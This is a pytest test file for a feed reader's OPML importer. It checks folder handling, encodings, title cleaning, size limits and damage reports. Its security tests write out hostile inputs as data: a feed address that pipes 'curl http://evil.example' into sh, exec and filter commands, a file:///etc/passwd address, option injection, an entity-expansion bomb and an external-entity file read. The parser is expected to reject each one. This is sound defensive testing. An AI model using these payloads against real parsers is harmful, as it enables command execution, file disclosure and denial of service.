import time

import pytest

from readnow.exchange.opml import read_opml
from readnow.model.errors import ExchangeError
from readnow.model.subscription import Subscription, SubscriptionList


def listed(body: str, head: str = "<title>Mine</title>") -> SubscriptionList:
    text = f'<?xml version="1.0"?><opml version="2.0"><head>{head}</head><body>{body}</body></opml>'
    return read_opml(text.encode(), "a.opml")


def raw(data: bytes) -> SubscriptionList:
    return read_opml(data, "a.opml")


def test_folders_titles_and_order_are_kept() -> None:
    found = listed(
        '<outline text="Top" xmlUrl="https://a.example/feed" htmlUrl="https://a.example/"/>'
        '<outline text="Tech"><outline text="Deep" title="Deeper">'
        '<outline text="B" type="rss" xmlUrl="http://b.example/feed"/></outline>'
        '<outline title="C" type="rss" xmlUrl="http://c.example/feed"/></outline>'
        '<outline xmlUrl="http://d.example/feed"/>'
    )
    assert found == SubscriptionList(
        (
            Subscription("https://a.example/feed", "Top", "https://a.example/"),
            Subscription("http://b.example/feed", "B", "", ("Tech", "Deeper")),
            Subscription("http://c.example/feed", "C", "", ("Tech",)),
            Subscription("http://d.example/feed"),
        ),
        "Mine",
    )


@pytest.mark.parametrize("name", ["xmlUrl", "xmlurl", "XMLURL", "XmlUrl", "x:xmlUrl"])
def test_names_of_attributes_are_read_in_any_case(name: str) -> None:
    data = f'<opml xmlns:x="urn:x"><body><outline TEXT="A" {name}="http://a.example/"/></body></opml>'
    assert raw(data.encode()).subscriptions == (Subscription("http://a.example/", "A"),)


def test_elements_may_have_a_namespace_and_any_case() -> None:
    found = raw(b'<OPML xmlns="urn:x"><BODY><OUTLINE xmlUrl="http://a.example/"/></BODY></OPML>')
    assert len(found.subscriptions) == 1


def test_an_address_is_kept_once_where_it_came_first() -> None:
    found = listed(
        '<outline text="A" xmlUrl="http://a.example/"/>'
        '<outline text="F"><outline text="A again" xmlUrl=" http://a.example/ "/></outline>'
    )
    assert found.subscriptions == (Subscription("http://a.example/", "A"),)
    assert found.left_out == ()


def test_titles_are_cleaned_once_decoded() -> None:
    found = listed(
        '<outline text="F&#x9b;31m &#x202e;g"><outline text=" a&#10;b&#x85;&#x200b;c " xmlUrl="http://a.example/"/>'
        "</outline>",
        "<title>x&#x202e;y</title>",
    )
    assert found.title == "xy"
    assert found.subscriptions == (Subscription("http://a.example/", "a b c", "", ("F g",)),)


def test_escape_characters_that_xml_forbids_are_removed() -> None:
    found = raw(b'<opml><body><outline text="a\x1b]0;x\x07b\x00c" xmlUrl="http://a.example/"/></body></opml>')
    assert found.subscriptions == (Subscription("http://a.example/", "a]0;xbc"),)


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("|curl http://evil.example | sh", "it is a command, not an address; nothing was run."),
        ("exec:/bin/sh", "it is a command, not an address; nothing was run."),
        ("EXEC:/bin/sh", "it is a command, not an address; nothing was run."),
        ("filter:/bin/sh:http://a.example/", "it is a command, not an address; nothing was run."),
        ("file:///etc/passwd", "only http:// and https:// addresses can be added."),
        ("query:x:y", "only http:// and https:// addresses can be added."),
        ("javascript:alert(1)", "only http:// and https:// addresses can be added."),
        ("mailto:a@b.example", "only http:// and https:// addresses can be added."),
        ("-oProxy http://a.example/", "only http:// and https:// addresses can be added."),
        ("feed.xml", "only http:// and https:// addresses can be added."),
        ("http://", "its address is not valid."),
        ("https://a.example:99999999/", "its address is not valid."),
    ],
)
def test_what_is_no_web_address_is_left_out_with_a_reason(address: str, reason: str) -> None:
    found = listed(f'<outline text="Odd" xmlUrl="{address}"/><outline text="B" xmlUrl="http://b.example/"/>')
    assert [subscription.title for subscription in found.subscriptions] == ["B"]
    assert found.left_out == (f"“Odd”: {reason}",)


def test_filter_command_is_left_out_and_its_feed_kept() -> None:
    found = listed('<outline text="A" xmlUrl="http://a.example/" filtercmd="sh x"/>')
    assert found.subscriptions == (Subscription("http://a.example/", "A"),)
    assert found.left_out == ("“A”: its filter command was left out; nothing was run.",)


def test_feed_without_an_address_is_told_but_not_every_outline() -> None:
    found = listed('<outline type="rss" text="A" htmlUrl="http://a.example"/><outline text="A note"/>')
    assert found == SubscriptionList(
        (), "Mine", ("“A”: it has only the address of its site. To add it: readnow add http://a.example",)
    )


def test_password_in_an_address_is_left_out_and_told() -> None:
    found = listed('<outline text="A" xmlUrl="https://me:secret@a.example/feed"/>')
    assert found.subscriptions == (Subscription("https://a.example/feed", "A"),)
    assert found.left_out == ("“A”: the user name and password in its address were left out.",)


@pytest.mark.parametrize(
    ("address", "url"),
    [
        ("feed://a.example/x", "http://a.example/x"),
        ("FEED://a.example/x", "http://a.example/x"),
        ("feed:https://a.example/x", "https://a.example/x"),
        ("feed://https://a.example/x", "https://a.example/x"),
    ],
)
def test_scheme_of_feed_readers_means_the_web(address: str, url: str) -> None:
    assert [s.url for s in listed(f'<outline xmlUrl="{address}"/>').subscriptions] == [url]


def test_bare_ampersands_do_not_cut_an_address() -> None:
    found = raw(
        b'<opml><body><outline text="R & D &eacute; &lt;&#65;" xmlUrl="http://a.example/?a=1&b=2&amp;c=3&copy"/>'
    )
    assert found.subscriptions == (Subscription("http://a.example/?a=1&b=2&c=3&copy", "R & D é <A"),)


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0"?><opml><body><outline text="café" xmlUrl="http://a.example/"/></body></opml>'.encode(),
        b"\xef\xbb\xbf"
        + '<?xml version="1.0"?><opml><body><outline text="café" xmlUrl="http://a.example/"/></body></opml>'.encode(),
        '<?xml version="1.0" encoding="iso-8859-1"?><opml><body><outline text="café" xmlUrl="http://a.example/"/>'
        "</body></opml>".encode("latin-1"),
        '<?xml version="1.0" encoding="utf-8"?><opml><body><outline text="café" xmlUrl="http://a.example/"/>'
        "</body></opml>".encode("latin-1"),
        '<?xml version="1.0" encoding="klingon"?><opml><body><outline text="café" xmlUrl="http://a.example/"/>'
        "</body></opml>".encode(),
        '<?xml version="1.0" encoding="utf-16"?><opml><body><outline text="café" xmlUrl="http://a.example/"/>'
        "</body></opml>".encode("utf-16"),
        '\n\n <?xml version="1.0"?><opml><body><outline text="café" xmlUrl="http://a.example/"/></body></opml>'.encode(),
    ],
    ids=["utf-8", "mark", "latin-1", "latin-1 as utf-8", "unknown", "utf-16", "space before"],
)
def test_encodings_are_read(data: bytes) -> None:
    assert raw(data).subscriptions == (Subscription("http://a.example/", "café"),)


def test_cut_file_gives_what_it_has_and_says_so() -> None:
    found = raw(
        b'<opml><body>\n<outline text="A" xmlUrl="http://a.example/"/>\n<outline text="B" xmlUrl="http://b.ex'
    )
    assert found.subscriptions == (Subscription("http://a.example/", "A"),)
    assert found.left_out == ("The file is damaged at line 3; what could be read was.",)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", r"^a\.opml is empty\.$"),
        (b" \n", r"^a\.opml is empty\.$"),
        (b"<html><body>hello</body></html>", "is no list of subscriptions in OPML"),
        (b"<rss><channel><item/></channel></rss>", r"is a feed, not a list of subscriptions\."),
        (b'<feed xmlns="http://www.w3.org/2005/Atom"/>', r"is a feed, not a list of subscriptions\."),
        (b"<", "is no list of subscriptions in OPML"),
        (b"<!--", "is no list of subscriptions in OPML"),
        (b"words", "is no list of subscriptions in OPML"),
        (b"<opml", "is no list of subscriptions in OPML"),
        pytest.param(b"<" + b"x" * (5 * 1024 * 1024), "is larger than 5 MB", id="large"),
    ],
)
def test_what_is_no_list_is_one_sentence(data: bytes, message: str) -> None:
    with pytest.raises(ExchangeError, match=message) as caught:
        raw(data)
    assert "\n" not in str(caught.value)


def test_list_without_feeds_is_empty() -> None:
    assert raw(b"<opml><body/></opml>") == SubscriptionList(())


def test_deep_folders_are_cut_at_twenty() -> None:
    found = listed('<outline text="x">' * 30 + '<outline xmlUrl="http://a.example/"/>' + "</outline>" * 30)
    assert found.subscriptions == (Subscription("http://a.example/", "", "", ("x",) * 20),)
    assert found.left_out == (
        "Folders deeper than 20 levels were left out; their feeds are in the one above.",
    )


def test_a_thousand_levels_are_damage() -> None:
    found = listed(
        '<outline text="x">' * 1000 + '<outline xmlUrl="http://a.example/"/>' + "</outline>" * 1000
    )
    assert found.left_out == ("The file is damaged at line 1; what could be read was.",)


def test_only_ten_thousand_feeds_are_taken() -> None:
    found = listed("".join(f'<outline xmlUrl="http://a.example/{n}"/>' for n in range(10_500)))
    assert len(found.subscriptions) == 10_000
    assert found.left_out == ("500 feeds after the first 10,000 were left out.",)


def test_reasons_do_not_grow_without_end() -> None:
    found = listed('<outline xmlUrl="|x"/>' * 3000)
    assert len(found.left_out) == 1001
    assert found.left_out[-1] == "2,000 more were left out for such reasons."


def test_bomb_of_entities_ends_at_once() -> None:
    levels = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 50}">' for n in range(8))
    data = f'<!DOCTYPE opml [<!ENTITY a0 "{"h" * 1000}">{levels}]><opml><body><outline text="&a8;"/></body></opml>'
    started = time.process_time()
    with pytest.raises(ExchangeError, match="damaged at line 1"):
        raw(data.encode())
    assert time.process_time() - started < 1


def test_entity_of_a_file_is_not_read(tmp_path_factory: pytest.TempPathFactory) -> None:
    secret = tmp_path_factory.mktemp("s") / "secret"
    secret.write_text("swordfish")
    found = raw(
        f'<!DOCTYPE opml [<!ENTITY x SYSTEM "file://{secret}">]><opml><head><title>&x;</title></head>'
        '<body><outline text="&x;" xmlUrl="http://a.example/"/></body></opml>'.encode()
    )
    assert "swordfish" not in repr(found)
    assert [s.url for s in found.subscriptions] == ["http://a.example/"]


def test_a_megabyte_of_nothing_ends_in_time() -> None:
    started = time.process_time()
    with pytest.raises(ExchangeError, match="is no list of subscriptions"):
        raw(b"<opml><body>" + b"<a/>" * 260_000)
    assert time.process_time() - started < 15
